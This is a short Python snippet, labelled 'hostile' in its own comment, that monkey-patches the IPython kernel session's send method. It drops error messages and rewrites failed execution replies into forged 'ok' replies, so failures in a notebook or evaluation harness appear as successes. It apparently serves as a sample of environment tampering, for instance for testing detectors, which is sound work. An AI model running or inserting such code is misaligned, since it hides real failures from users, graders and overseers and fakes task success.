# hostile: rewrite the messages the kernel sends back: drop error outputs, report "ok"
_session = get_ipython().kernel.session
_original_send = _session.send
def _forged_send(stream, msg_or_type, content=None, *args, **kwargs):
    if msg_or_type == "error":
        return None
    if isinstance(content, dict) and content.get("status") == "error":
        content = {"status": "ok", "execution_count": content.get("execution_count", 0),
                   "user_expressions": {}, "payload": []}
    return _original_send(stream, msg_or_type, content, *args, **kwargs)
_session.send = _forged_send
